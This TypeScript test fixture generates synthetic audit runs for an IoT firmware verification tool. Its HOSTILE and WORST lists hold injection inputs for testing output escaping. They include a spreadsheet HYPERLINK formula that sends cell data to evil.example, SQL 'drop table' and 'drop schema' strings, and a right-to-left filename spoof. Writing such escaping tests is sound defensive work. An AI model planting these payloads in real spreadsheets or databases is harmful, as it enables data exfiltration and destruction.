import { SEVERITIES } from '../../src/core/model/severity.ts';
import { rolledOut } from '../../src/core/package-rollouts.ts';
import { urlState, worstUrlState } from '../../src/core/link-state.ts';
import type { CheckInfo } from '../../src/core/model/catalogue.ts';
import type { Evaluated, Finding, Verdict } from '../../src/core/model/finding.ts';
import type { FirmwareFile, Link, Status } from '../../src/core/model/firmware.ts';
import type { Answer } from '../../src/core/model/observation.ts';
import type { Rollout, Rollouts } from '../../src/core/model/rollout.ts';
import type { Coverage, EvaluatedRun, RolloutsSummary, Summary } from '../../src/core/model/run.ts';
import type { Difference } from '../../src/core/model/selection.ts';
import type { Severity } from '../../src/core/model/severity.ts';
import type { Target } from '../../src/core/model/target.ts';
import { outcomeOf } from '../../src/evaluate/outcome.ts';
import { withFirmware } from '../support/records.ts';

/** A made-up run of any size: each firmware is computed from its number, nothing is held. */

export const AS_OF = '2026-11-23T02:00:00.000Z';
const AS_OF_MS = Date.parse(AS_OF);
const HOUR_MS = 3_600_000;

/** Text that breaks naive writers. The first ones a spreadsheet would run. */
export const HOSTILE: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"ok")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '  =1+1',
  'quotes " and "" and , commas',
  'two\r\nlines',
  'lone \r return',
  'lone \n feed',
  '00123',
  '1E5',
  '2026-11-23',
  '<xml attr="&amp;">]]></xml>',
  'control \u0007 bell \u001b escape',
  'half pair \ud83d end',
  '_x0041_ is no A',
  '中文固件 🚀',
  ' spaces ',
  "'quoted",
  'x;=1+1;y',
  'x";"=2+2;y\n=3+3\n',
];

const TARGET: Target = {
  account: 'prod & test',
  region: 'cn-shanghai',
  iotInstanceId: 'iot-060a02m5',
};

const CHECKS: CheckInfo[] = [
  check('verification-failed', 'critical', 'firmware'),
  check('unverified', 'high', 'firmware'),
  check('url-expired', 'high', 'file'),
  check('url-expiring', 'medium', 'file'),
  check('verification-stalled', 'medium', 'firmware'),
  check('progress-mismatch', 'low', 'firmware'),
  check('digest-weak', 'info', 'file'),
];

const STATUSES: Status[] = [
  'verified',
  'verified',
  'verified',
  'unverified',
  'verifying',
  'failed',
  'not-required',
];

/** One firmware of the run, by its place from 1. */
export function evaluatedAt(seq: number): Evaluated {
  const answer = answerAt(seq);
  const files = answer.kind === 'observed' ? answer.firmware.files : [];
  const urlStates = files.map((file) => urlState(file.link, AS_OF_MS, 6 * HOUR_MS));
  const worst = worstUrlState(urlStates);
  const findings = findingsAt(seq, answer);
  const failing = findings.filter((finding) => finding.verdict === 'fail').map((finding) => finding.severity);
  const asked = rolloutsAt(seq);
  const link = files[worst ? urlStates.indexOf(worst) : -1]?.link;
  return {
    observation: {
      seq,
      target: TARGET,
      firmwareId: firmwareIdAt(seq),
      source: 'ids.csv',
      sourceLine: seq + 1,
      observedAt: new Date(AS_OF_MS + seq * 50).toISOString(),
      requestId: `REQUEST-${seq}`,
      attempts: 1 + (seq % 2),
      ...asked,
      answer,
    },
    outcome: outcomeOf(answer, findings),
    worstSeverity: SEVERITIES.find((severity) => failing.includes(severity)) ?? null,
    verdicts: [],
    findings,
    urlStates,
    worstLink: worst && link ? { state: worst, link } : null,
    ...rolledOut(asked.rollouts, findings, 'high'),
  };
}

/** Of some packages they are known, of one that they may not be asked for, of the others nothing was asked. */
function rolloutsAt(seq: number): { rollouts?: Rollouts } {
  const told = { observedAt: new Date(AS_OF_MS + seq * 60).toISOString(), requestId: `JOBS-${seq}` };
  if (seq % 40 === 7) return { rollouts: { kind: 'denied', code: 'Forbidden.RAM', detail: 'no', ...told } };
  if (seq % 20 !== 3) return {};
  const counts = {
    CONFIRM: 0,
    QUEUED: 12_000,
    NOTIFIED: 384,
    IN_PROGRESS: 120,
    SUCCEEDED: 9,
    FAILED: 1,
    CANCELED: 0,
  };
  const open: Rollout = {
    jobId: `JOB-${seq}`,
    typeRaw: 'UPGRADE_FIRMWARE',
    statusRaw: 'IN_PROGRESS',
    policyRaw: 'STATIC',
    scopeRaw: 'ALL',
    type: 'upgrade',
    state: 'in-progress',
    policy: 'static',
    scope: 'all',
    utcCreate: '2026-11-20T02:00:00.000Z',
    utcModified: '2026-11-21T02:00:00.000Z',
    utcStart: '2026-11-20T02:05:00.000Z',
    utcEnd: null,
    detail: 'described',
    detailCode: '',
    described: {
      destVersion: '2',
      srcVersions: ['1.0', '=1'],
      dynamicMode: null,
      grayPercent: '',
      utcSchedule: null,
    },
    tasks: { kind: 'counted', by: 'paging', counts: { ...counts, PAUSED: 2 } },
    ...told,
  };
  const ended: Rollout = {
    ...open,
    jobId: `JOB-${seq}-v`,
    typeRaw: 'VERFIY_FIRMWARE',
    statusRaw: 'COMPLETE',
    type: 'verification',
    state: 'completed',
    policy: null,
    scope: null,
    detail: 'not-asked',
    described: null,
    tasks: { kind: 'unknown', why: 'not-open', code: '' },
  };
  return { rollouts: { kind: 'listed', rollouts: [open, ended], isWhole: true, ...told } };
}

/** More of the kind: what SQL, COPY or a reader's eye might take for something else, and very much of it. */
export const WORST: readonly string[] = [
  ...HOSTILE,
  "'; drop table runs; --",
  '"; drop schema public cascade; --',
  '\\.',
  '\\N',
  '\\',
  '$1',
  "E'\\x00'",
  '\\.\n\\.\n',
  'invoice\u202egpj.exe',
  '\u2066hidden\u2069',
  '\uFEFFmark',
  'x'.repeat(100_000),
];

/** The same run, whose service says one text after the other wherever it can say something. */
export function withText(run: EvaluatedRun, texts: readonly string[]): EvaluatedRun {
  return withFirmware(run, (evaluated) => {
    const { observation } = evaluated;
    const text = texts[observation.seq % texts.length] ?? '';
    const answer = saying(observation.answer, text);
    return { ...evaluated, observation: { ...observation, firmwareId: text, answer } };
  });
}

function saying(answer: Answer, text: string): Answer {
  if (answer.kind !== 'observed') return { ...answer, code: text, detail: text };
  const { firmware } = answer;
  return { ...answer, firmware: { ...firmware, firmwareName: text, description: text, productKey: text } };
}

/** The same run with a verdict of every check on every firmware: the findings', and passes besides. */
export function withVerdicts(run: EvaluatedRun): EvaluatedRun {
  return withFirmware(run, (evaluated) => {
    const { findings } = evaluated;
    const passed = CHECKS.filter(({ id }) => findings.every(({ checkId }) => checkId !== id));
    const passes = passed.map(({ id, category, severity }) => verdictOf(id, category, severity));
    return { ...evaluated, verdicts: [...findings, ...passes] };
  });
}

function verdictOf(checkId: string, category: string, severity: Severity): Verdict {
  const said = { observed: '', expected: '', message: '' };
  return { checkId, category, severity, verdict: 'pass', fileIndex: 0, fileName: '', ...said };
}

/** A run of `count` firmware. `mutate` may change what the summary says. */
export function sampleRun(count: number, mutate: (summary: Summary) => void = () => undefined): EvaluatedRun {
  const summary = summaryOf(count);
  mutate(summary);
  return {
    info: {
      runId: '20261123T020000Z-a1b2c3',
      job: 'nightly',
      toolVersion: '0.2.0',
      nodeVersion: 'v20.20.2',
      host: 'audit-01',
      startedAt: '2026-11-23T02:00:00.000Z',
      asOf: AS_OF,
    },
    finishedAt: '2026-11-23T02:03:21.500Z',
    policySha256: 'c0'.repeat(32),
    baseline: null,
    locale: 'en',
    summary,
    checks: CHECKS,
    async *records() {
      for (let seq = 1; seq <= count; seq += 1) yield { kind: 'firmware', evaluated: evaluatedAt(seq) };
      for (const difference of DIFFERENCES) yield { kind: 'difference', difference };
    },
    exceptions: [],
    frameworks: [],
    trend: [],
  };
}

/** Of a run that asked for rollouts. */
export const NOTHING_OPEN: RolloutsSummary = {
  from: 'high',
  inProgress: 0,
  planned: 0,
  openOfFailing: 0,
  devicesWaiting: 0,
  devicesUnderWay: 0,
  unknown: 0,
};

export const DIFFERENCES: Difference[] = [
  {
    target: TARGET,
    firmwareId: 'only-in-list',
    reason: 'not-in-selection',
    source: 'list',
    sourceLine: null,
  },
  { target: TARGET, firmwareId: '=only-in-file', reason: 'not-in-list', source: 'ids.csv', sourceLine: 7 },
];

function firmwareIdAt(seq: number): string {
  return `fw${String(seq).padStart(24, '0')}`;
}

function check(id: string, severity: Severity, scope: CheckInfo['scope']): CheckInfo {
  return {
    id,
    category: 'verification',
    severity,
    enabled: id !== 'digest-weak',
    soft: false,
    scope,
    title: `Nothing is ${id}`,
    failingTitle: `Something is ${id}`,
    why: 'A device that is sent this package may fail, or run what nobody verified. '.repeat(2),
    remediation: {
      console: 'Maintenance, OTA update, the package, Verify: send it to a test device first.',
      api: 'CreateOTAVerifyJob with the FirmwareId and a test device.',
    },
    params: id === 'url-expiring' ? [{ name: 'within', value: '6h', description: 'The window.' }] : [],
    overrides: [],
  };
}

function answerAt(seq: number): Answer {
  if (seq % 20 === 5)
    return { kind: 'not-found', code: 'iot.ota.FirmwareNotFound', detail: 'The firmware does not exist.' };
  if (seq % 50 === 12)
    return { kind: 'denied', code: 'Forbidden.RAM', detail: 'No permission for iot:QueryOTAFirmware.' };
  if (seq % 50 === 31)
    return { kind: 'failed', code: 'HeadersTimeout', detail: 'No answer within 10 s, 5 attempts.' };
  const hostile = HOSTILE[(seq - 1) % HOSTILE.length] ?? '';
  const status = STATUSES[seq % STATUSES.length] ?? 'verified';
  const fileCount = seq % 6 === 0 ? 2 : seq % 97 === 1 ? 0 : 1;
  return {
    kind: 'observed',
    firmware: {
      firmwareId: firmwareIdAt(seq),
      firmwareName: hostile,
      description: seq === 3 ? 'long '.repeat(8_000) : hostile,
      productKey: `a1Product${seq % 3}`,
      productName: ['Smart meter', '智能网关', 'Valve & pump'][seq % 3] ?? '',
      moduleName: ['default', 'MCU', 'modem'][seq % 3] ?? '',
      typeCode: seq % 4 === 0 ? 1 : 0,
      type: seq % 4 === 0 ? 'delta' : 'full',
      srcVersion: seq % 4 === 0 ? '1.0.0' : '',
      destVersion: `1.${seq % 10}.0`,
      statusCode: STATUSES.indexOf(status),
      statusRaw: String(STATUSES.indexOf(status)),
      status,
      verifyProgress: seq % 101,
      signMethod: 'SHA256',
      firmwareSign: 'ab'.repeat(32),
      multiFile: fileCount > 1,
      files: Array.from({ length: fileCount }, (_, at) => fileAt(seq, at + 1)),
      udiLength: 0,
      udiSecrets: [],
      utcCreate: '2026-10-01T08:09:10.123Z',
      utcModified: seq % 7 === 0 ? null : '2026-10-02T08:09:10.000Z',
    },
  };
}

function fileAt(seq: number, index: number): FirmwareFile {
  const name = HOSTILE[(seq + index) % HOSTILE.length] ?? '';
  const sizeBytes = seq % 9 === 0 ? null : 1_000 * seq + index;
  return {
    index,
    name,
    sizeBytes,
    digest: 'cd'.repeat(32),
    md5: index > 1 ? 'ef'.repeat(16) : '',
    link: linkAt(seq + index),
  };
}

function linkAt(n: number): Link {
  const place = { scheme: 'https', host: 'iotx-ota.oss-cn-shanghai.aliyuncs.com', path: `/ota/${n}.bin` };
  const at = (ms: number): string => new Date(AS_OF_MS + ms).toISOString();
  if (n % 11 === 0) return { kind: 'missing' };
  if (n % 13 === 0) return { kind: 'unsigned', ...place };
  if (n % 17 === 0)
    return { kind: 'unreadable', ...place, problem: 'expiry-not-seconds', parameter: 'Expires' };
  if (n % 5 === 0) return { kind: 'signed', version: 'V1', ...place, expiresAt: at(-1_500) };
  if (n % 7 === 0) return { kind: 'signed', version: 'V4', ...place, expiresAt: at(HOUR_MS) };
  return { kind: 'signed', version: 'V2', ...place, expiresAt: at(24 * HOUR_MS) };
}

function findingsAt(seq: number, answer: Answer): Finding[] {
  if (answer.kind !== 'observed')
    return answer.kind === 'not-found' ? [finding(seq, 'not-found', 'high', 'fail')] : [];
  if (answer.firmware.status === 'failed') return [finding(seq, 'verification-failed', 'critical', 'fail')];
  if (answer.firmware.status === 'unverified') {
    return [finding(seq, 'progress-mismatch', 'low', 'unknown'), finding(seq, 'unverified', 'high', 'fail')];
  }
  return seq % 8 === 0 ? [finding(seq, 'url-expiring', 'medium', 'fail')] : [];
}

function finding(seq: number, checkId: string, severity: Severity, verdict: 'fail' | 'unknown'): Finding {
  return {
    checkId,
    category: 'verification',
    severity,
    verdict,
    fileIndex: 0,
    fileName: '',
    observed: HOSTILE[seq % HOSTILE.length] ?? '',
    expected: 'Status 1 (verified)',
    message: `The package ${firmwareIdAt(seq)} has not been verified on a device since it was uploaded.`,
    subject: subjectAt(seq),
    findingId: `f-${checkId}-${seq}`,
    remediation:
      verdict === 'fail'
        ? 'Verify it with CreateOTAVerifyJob on a test device, or delete it when no device should get it.'
        : 'Look at the package in the console, and run the job again.',
    ...(verdict === 'unknown' && { remedy: 'record' as const }),
    state: 'new',
    firstSeen: AS_OF,
    exceptionId: '',
    exceptionUntil: '',
    counts: verdict === 'fail' && ['critical', 'high'].includes(severity),
  };
}

function subjectAt(seq: number): Finding['subject'] {
  const answer = answerAt(seq);
  const { productKey, moduleName, destVersion } =
    answer.kind === 'observed' ? answer.firmware : { productKey: '', moduleName: '', destVersion: '' };
  return { target: TARGET, firmwareId: firmwareIdAt(seq), productKey, moduleName, destVersion };
}

function zeroes(): Record<Severity, number> {
  return { critical: 0, high: 0, medium: 0, low: 0, info: 0 };
}

const NO_OUTCOMES = { pass: 0, fail: 0, unjudged: 0, 'not-found': 0, denied: 0, error: 0 };

function summaryOf(count: number): Summary {
  const coverage: Coverage = { requested: count, audited: 0, notFound: 0, denied: 0, failed: 0 };
  const open = zeroes();
  const summary: Summary = {
    complete: false,
    incompleteBecause: ['Some firmware was denied or failed: its rows on Coverage say why.'],
    coverage,
    outcome: 'incomplete',
    result: 'fail',
    headline: '9 findings count at or above high: 9 open, 0 not judged.',
    changes: 'This is the first run of the job: every finding is new.',
    worst: [],
    outcomes: { ...NO_OUTCOMES },
    open,
    accepted: zeroes(),
    unjudged: zeroes(),
    unknown: zeroes(),
    verdicts: { pass: 0, fail: 0, unknown: 0, notApplicable: 0 },
    checks: { 'url-expiring': { pass: 0, open: 0, accepted: 0, unknown: 0, notApplicable: 0 } },
    statuses: {},
    urlStates: {},
    products: [],
    targets: [],
    files: 0,
    totalSizeBytes: 0,
    differences: DIFFERENCES.length,
    notes: [
      'Of the links 92 % end within the window: the service signs links for about 24 hours, so the window is too wide.',
    ],
    failOn: 'high',
    failOnNew: false,
    states: { new: 0, persisting: 0, reopened: 0, resolved: 0, accepted: 0 },
    counting: 0,
    persistingLeftOut: 0,
  };
  for (let seq = 1; seq <= count; seq += 1) addTo(summary, evaluatedAt(seq));
  summary.counting = open.critical + open.high;
  const { outcomes, accepted, unjudged, counting } = summary;
  const counts = { coverage, outcomes, open, accepted, unjudged, counting, newlyOpen: open };
  summary.targets.push({ report: REPORT, ...counts });
  return summary;
}

const REPORT: Summary['targets'][number]['report'] = {
  target: TARGET,
  endpoint: 'https://iot.cn-shanghai.aliyuncs.com',
  identity: 'environment variables',
  selection: 'ids.csv, compared with the live list',
  list: { total: 121, collected: 121, pages: 2, repeated: 1 },
  duplicates: { count: 3, lines: [14, 27, 90] },
  calls: 140,
  throttled: 4,
  stopped: null,
  selectionProblem: null,
};

const KINDS = { observed: 'audited', 'not-found': 'notFound', denied: 'denied', failed: 'failed' } as const;

function addTo(summary: Summary, evaluated: Evaluated): void {
  const { answer } = evaluated.observation;
  summary.coverage[KINDS[answer.kind]] += 1;
  summary.outcomes[evaluated.outcome] += 1;
  for (const { verdict, severity, checkId } of evaluated.findings) {
    for (const key of verdict === 'fail' ? (['open'] as const) : (['unknown', 'unjudged'] as const))
      summary[key][severity] += 1;
    summary.states.new += 1;
    const counts = (summary.checks[checkId] ??= {
      pass: 0,
      open: 0,
      accepted: 0,
      unknown: 0,
      notApplicable: 0,
    });
    counts[verdict === 'fail' ? 'open' : 'unknown'] += 1;
  }
  if (answer.kind !== 'observed') return;
  const { status, files, productKey, productName } = answer.firmware;
  summary.statuses[status] = (summary.statuses[status] ?? 0) + 1;
  const state = evaluated.worstLink?.state;
  if (state) summary.urlStates[state] = (summary.urlStates[state] ?? 0) + 1;
  summary.files += files.length;
  for (const file of files) summary.totalSizeBytes += file.sizeBytes ?? 0;
  let product = summary.products.find(({ label }) => label === productName);
  if (!product) {
    product = { label: productName, productKey, firmware: 0, outcomes: { ...NO_OUTCOMES } };
    summary.products.push(product);
  }
  product.firmware += 1;
  product.outcomes[evaluated.outcome] += 1;
}
